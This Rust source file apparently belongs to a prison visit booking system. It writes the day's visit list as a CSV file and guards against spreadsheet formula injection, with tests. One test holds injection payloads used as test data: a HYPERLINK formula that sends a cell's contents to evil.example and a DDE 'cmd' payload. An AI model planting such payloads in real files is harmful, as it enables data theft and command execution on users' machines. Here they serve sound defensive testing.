//! The day list as a CSV file to open in a spreadsheet, written with the `csv` crate (RFC 4180: CRLF line endings,
//! fields quoted when they hold a comma, a quote, CR or LF, with quotes doubled).

use anyhow::Context;
use domain::api::Locale;
use domain::daylist::DayList;

/// The CSV columns, in order. `visitor excluded` goes beyond the printed list: whoever is at the gate must know which
/// visitor not to let in. `channel` (after the columns of the first version, so they keep their places) is how the
/// request came in: `website`, `phone`, `in_person` or `integrator`. `support needs` (last, for the same reason) is
/// the support the visitor said the party needs, each need as the staff app words it in English, separated by `; `
/// (`Wheelchair access; Interpreter: Polish`), empty for none.
pub const CSV_HEADER: [&str; 16] = [
    "slot date",
    "start",
    "end",
    "reference",
    "booking reference",
    "state",
    "closed visit",
    "prisoner number",
    "prisoner name",
    "prisoner date of birth",
    "visitor name",
    "visitor date of birth",
    "lead visitor",
    "visitor excluded",
    "channel",
    "support needs",
];

/// The day list as a CSV file, one row per visitor under a header row. A visit without visitors (anonymised, say)
/// still gets one row, with the visitor columns empty. Slots and visits keep the order they have in `list`.
///
/// Every value that a spreadsheet would read as a formula (starting with `=`, `+`, `-`, `@`, tab or CR) gets a
/// leading apostrophe, so a name typed as `=HYPERLINK(...)` by a visitor shows as text instead of running.
pub fn to_csv(list: &DayList) -> anyhow::Result<String> {
    let mut out = csv::WriterBuilder::new()
        .terminator(csv::Terminator::CRLF)
        .quote_style(csv::QuoteStyle::Necessary)
        .from_writer(Vec::new());
    out.write_record(CSV_HEADER).context("writing the day list’s CSV header")?;
    for day_slot in &list.slots {
        let slot = &day_slot.slot;
        for visit in &day_slot.visits {
            let last_fields = [visit.channel.as_str().to_owned(), visit.support_needs.describe(Locale::En).join("; ")];
            let visit_fields = [
                slot.date.to_string(),
                slot.start.format("%H:%M").to_string(),
                slot.end.format("%H:%M").to_string(),
                visit.reference.clone(),
                visit.booking_reference.clone().unwrap_or_default(),
                visit.state.as_str().to_string(),
                yes_no(visit.closed_visit),
                visit.prisoner_number.clone(),
                visit.prisoner_name.clone(),
                visit.prisoner_dob.to_string(),
            ];
            if visit.visitors.is_empty() {
                let row = visit_fields
                    .iter()
                    .cloned()
                    .chain(std::iter::repeat_n(String::new(), 4))
                    .chain(last_fields.iter().cloned());
                out.write_record(row.map(|f| neutralised(&f))).context("writing a day list CSV row")?;
            }
            for visitor in &visit.visitors {
                let visitor_fields = [
                    visitor.name.clone(),
                    visitor.date_of_birth.to_string(),
                    yes_no(visitor.lead),
                    yes_no(visitor.excluded),
                ];
                let row = visit_fields.iter().cloned().chain(visitor_fields).chain(last_fields.iter().cloned());
                out.write_record(row.map(|f| neutralised(&f))).context("writing a day list CSV row")?;
            }
        }
    }
    let bytes = out.into_inner().context("finishing the day list CSV")?;
    String::from_utf8(bytes).context("the day list CSV is not UTF-8")
}

fn yes_no(b: bool) -> String {
    if b { "yes" } else { "no" }.to_string()
}

/// One field, neutralised against formula injection (the `csv` crate then quotes it if it needs to be).
pub(crate) fn neutralised(value: &str) -> String {
    if value.starts_with(['=', '+', '-', '@', '\t', '\r']) { format!("'{value}") } else { value.to_string() }
}

#[cfg(test)]
mod tests {
    use chrono::{NaiveDate, NaiveTime};
    use domain::daylist::{DayListSlot, DayListVisit, DayListVisitor};
    use domain::slot::Slot;
    use domain::visit::VisitState;
    use uuid::Uuid;

    use super::*;

    /// Reads back what `to_csv` wrote, as a spreadsheet would: every record, the header included.
    fn parse_csv(text: &str) -> Vec<Vec<String>> {
        csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(text.as_bytes())
            .records()
            .map(|record| record.unwrap().iter().map(str::to_owned).collect())
            .collect()
    }

    /// One value as `to_csv` writes it in a row (neutralised, then quoted if needed).
    fn written(value: &str) -> String {
        let mut out = csv::WriterBuilder::new().terminator(csv::Terminator::CRLF).from_writer(Vec::new());
        out.write_record([neutralised(value), "x".into()]).unwrap();
        let row = String::from_utf8(out.into_inner().unwrap()).unwrap();
        row.strip_suffix(",x\r\n").unwrap().to_owned()
    }

    fn date(y: i32, m: u32, d: u32) -> NaiveDate {
        NaiveDate::from_ymd_opt(y, m, d).unwrap()
    }

    fn time(h: u32, m: u32) -> NaiveTime {
        NaiveTime::from_hms_opt(h, m, 0).unwrap()
    }

    fn visitor(name: &str, lead: bool) -> DayListVisitor {
        DayListVisitor { name: name.to_string(), date_of_birth: date(1980, 7, 1), lead, excluded: false }
    }

    fn visit(reference: &str, prisoner_name: &str, visitors: Vec<DayListVisitor>) -> DayListVisit {
        DayListVisit {
            visit_id: Uuid::nil(),
            reference: reference.to_string(),
            booking_reference: None,
            state: VisitState::Booked,
            closed_visit: false,
            prisoner_name: prisoner_name.to_string(),
            prisoner_number: "A1234BC".to_string(),
            prisoner_dob: date(1985, 4, 12),
            visitors,
            channel: domain::visit::Channel::Website,
            support_needs: Default::default(),
        }
    }

    fn list(visits: Vec<DayListVisit>) -> DayList {
        DayList {
            prison_id: Uuid::nil(),
            date: date(2026, 12, 1),
            slots: vec![DayListSlot {
                slot: Slot::new(date(2026, 12, 1), time(14, 0), time(16, 10)),
                capacity: 10,
                closed_capacity: 2,
                held: 0,
                visits,
            }],
        }
    }

    #[test]
    fn the_csv_has_a_header_and_one_crlf_row_per_visitor() {
        let mut closed =
            visit("7KQ2M9XD", "John Smith", vec![visitor("Mary Smith", true), visitor("Amy Smith", false)]);
        closed.closed_visit = true;
        closed.booking_reference = Some("RCI-0412".into());
        closed.visitors[1].excluded = true;
        closed.support_needs.hearing_loop = true;
        closed.support_needs.other = Some("Ramp to the visits hall\nplease".into());
        let mut cancelled = visit("4TR8HN2W", "Ali Khan", vec![visitor("Sara Khan", true)]);
        cancelled.state = VisitState::Cancelled;
        let csv = to_csv(&list(vec![closed, cancelled])).unwrap();

        assert!(csv.ends_with("\r\n"));
        assert_eq!(csv.matches("\r\n").count(), 4);
        assert_eq!(
            csv.matches('\n').count(),
            4 + 2,
            "every line ends with CRLF (and the support needs' line breaks are inside their quoted fields)"
        );
        let rows = parse_csv(&csv);
        assert_eq!(rows[0], CSV_HEADER);
        assert_eq!(
            rows[1],
            [
                "2026-12-01",
                "14:00",
                "16:10",
                "7KQ2M9XD",
                "RCI-0412",
                "booked",
                "yes",
                "A1234BC",
                "John Smith",
                "1985-04-12",
                "Mary Smith",
                "1980-07-01",
                "yes",
                "no",
                "website",
                "Hearing loop; Other: Ramp to the visits hall\nplease"
            ]
        );
        assert_eq!(
            rows[2][10..],
            ["Amy Smith", "1980-07-01", "no", "yes", "website", "Hearing loop; Other: Ramp to the visits hall\nplease"]
        );
        assert_eq!(rows[3][3..7], ["4TR8HN2W", "", "cancelled", "no"]);
    }

    #[test]
    fn a_visit_without_visitors_still_gets_a_row() {
        let rows = parse_csv(&to_csv(&list(vec![visit("7KQ2M9XD", "John Smith", vec![])])).unwrap());
        assert_eq!(rows.len(), 2);
        assert_eq!(rows[1].len(), CSV_HEADER.len());
        assert_eq!(rows[1][3], "7KQ2M9XD");
        assert!(rows[1][10..14].iter().all(String::is_empty));
        assert_eq!(rows[1][14], "website");
        assert_eq!(rows[1][15], "");
    }

    #[test]
    fn an_empty_day_is_just_the_header() {
        let mut empty = list(vec![]);
        assert_eq!(parse_csv(&to_csv(&empty).unwrap()), vec![CSV_HEADER.to_vec()]);
        empty.slots.clear();
        assert_eq!(to_csv(&empty).unwrap().matches("\r\n").count(), 1);
    }

    #[test]
    fn names_with_commas_quotes_and_line_breaks_are_quoted_and_read_back_whole() {
        let awkward = ["Smith, John", "John \"Jack\" O'Neil", "Line\nbreak", "Carriage\rreturn", "\"quoted\""];
        let visitors = awkward.iter().map(|name| visitor(name, false)).collect();
        let csv = to_csv(&list(vec![visit("7KQ2M9XD", "O\"Brien, Pat", visitors)])).unwrap();
        assert!(csv.contains("\"Smith, John\""));
        assert!(csv.contains("\"John \"\"Jack\"\" O'Neil\""));
        let rows = parse_csv(&csv);
        assert_eq!(rows.len(), 1 + awkward.len());
        for (row, name) in rows[1..].iter().zip(awkward) {
            assert_eq!(row.len(), CSV_HEADER.len());
            assert_eq!(row[8], "O\"Brien, Pat");
            assert_eq!(row[10], name);
        }
    }

    #[test]
    fn values_a_spreadsheet_would_run_as_formulas_start_with_an_apostrophe() {
        let formulas = [
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
            "+44 7700 900123",
            "-2+3",
            "@SUM(A1:A9)",
            "\tTabbed",
            "\rReturned",
        ];
        let visitors = formulas.iter().map(|name| visitor(name, false)).collect();
        let mut v = visit("7KQ2M9XD", "=1+1", visitors);
        v.booking_reference = Some("=cmd|' /C calc'!A0".into());
        let rows = parse_csv(&to_csv(&list(vec![v])).unwrap());
        for (row, name) in rows[1..].iter().zip(formulas) {
            assert_eq!(row[10], format!("'{name}"));
            assert_eq!(row[8], "'=1+1");
            assert_eq!(row[4], "'=cmd|' /C calc'!A0");
        }
    }

    #[test]
    fn ordinary_values_are_written_as_they_are() {
        assert_eq!(written("Mary Smith"), "Mary Smith");
        assert_eq!(written("O'Neil"), "O'Neil");
        assert_eq!(written("Mary-Jane"), "Mary-Jane");
        assert_eq!(written(""), "");
        assert_eq!(written("=a,b"), "\"'=a,b\"");
        assert_eq!(written("\rx"), "\"'\rx\"");
    }

    #[test]
    fn a_visitor_name_with_a_line_break_and_a_quote_round_trips() {
        let name = "Mary \"May\"\r\nSmith";
        let rows = parse_csv(&to_csv(&list(vec![visit("7KQ2M9XD", "John Smith", vec![visitor(name, true)])])).unwrap());
        assert_eq!(rows.len(), 2, "the line break stays inside its field");
        assert_eq!(rows[1][10], name);
    }
}
